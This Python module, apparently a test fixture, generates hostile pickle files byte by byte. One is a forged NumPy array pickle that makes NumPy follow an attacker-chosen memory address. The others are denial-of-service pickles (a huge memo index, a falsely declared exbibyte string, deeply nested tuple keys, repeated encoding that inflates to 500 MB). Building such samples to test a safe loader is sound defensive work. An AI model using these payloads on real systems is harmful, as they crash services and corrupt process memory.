"""Small hostile files, made anew: each is a function that returns the bytes of one."""

from __future__ import annotations

import struct

ADDRESS = 0x0000_4141_4141_4140
"""Where `forged_cifar_batch` would have NumPy look for an object."""


def _text(value: str) -> bytes:
    return b"X" + struct.pack("<I", len(value)) + value.encode()


def _bytes(value: bytes) -> bytes:
    return b"B" + struct.pack("<I", len(value)) + value


def _number(value: int) -> bytes:
    return b"J" + struct.pack("<i", value)


def _tuple(*parts: bytes) -> bytes:
    return b"(" + b"".join(parts) + b"t"


def _global(module: str, name: str) -> bytes:
    return f"c{module}\n{name}\n".encode()


def forged_cifar_batch() -> bytes:
    """A pickle of nothing but numpy.dtype, numpy.ndarray and _reconstruct that has NumPy follow ADDRESS.

    An array of a structured dtype, which is said to hold no references, gets plain bytes as its memory; then a second
    BUILD says of the same dtype that it holds references.
    """
    none, false, true = b"N", b"\x89", b"\x88"

    def dtype(code: str) -> bytes:
        return _global("numpy", "dtype") + _tuple(_text(code), false, true) + b"R"

    reference = dtype("O") + _tuple(_number(3), _text("|"), none, none, none, *map(_number, (-1, -1, 63))) + b"b"
    fields = b"}" + _text("f") + _tuple(reference, _number(0)) + b"s"

    def flags(value: int) -> bytes:
        names = _tuple(_text("f"))
        return _tuple(_number(3), _text("|"), none, names, fields, _number(8), _number(1), _number(value)) + b"b"

    array = _global("numpy.core.multiarray", "_reconstruct") + _tuple(
        _global("numpy", "ndarray"), _tuple(_number(0)), _bytes(b"b")
    )
    memory = struct.pack("<Q", ADDRESS) * 64
    return (
        b"\x80\x03" + dtype("V8") + b"q\x07" + flags(0) + b"0"
        + array + b"Rq\x08" + _tuple(_number(1), _tuple(_number(64)), b"h\x07", false, _bytes(memory)) + b"b0"
        + b"h\x07" + flags(63) + b"0}" + _bytes(b"data") + b"h\x08s."
    )  # fmt: skip


def pickle_with_far_memo() -> bytes:
    """Ten bytes for which the unpickler of C before Python 3.15 takes 32 GiB: a place far up in its memo."""
    return b"\x80\x02}r" + struct.pack("<I", 0x7FFF_FFFF) + b"."


def pickle_with_long_string() -> bytes:
    """A string that declares an exbibyte and has none of it."""
    return b"\x80\x04\x8e" + struct.pack("<Q", 1 << 60) + b"x."


def pickle_with_deep_key(depth: int = 200_000) -> bytes:
    """A dictionary whose key is a tuple in a tuple in a tuple …, which a recursion without an end would hash."""
    return b"\x80\x02}" + b")" + b"\x85" * depth + b"Ns."


def pickle_encoding_again(times: int = 5_000, size: int = 100_000) -> bytes:
    """One text that is encoded again and again, into bytes that are each its own: 500 MB from 130 KB."""
    ask = b"h\x00(h\x01h\x02tRa"
    head = b"\x80\x02(" + _global("_codecs", "encode") + b"q\x00" + _text("x" * size) + b"q\x01" + _text("latin1")
    return head + b"q\x02]" + ask * times + b"t."


PICKLES = {
    "memo": pickle_with_far_memo,
    "string": pickle_with_long_string,
    "key": pickle_with_deep_key,
    "encoded": pickle_encoding_again,
}
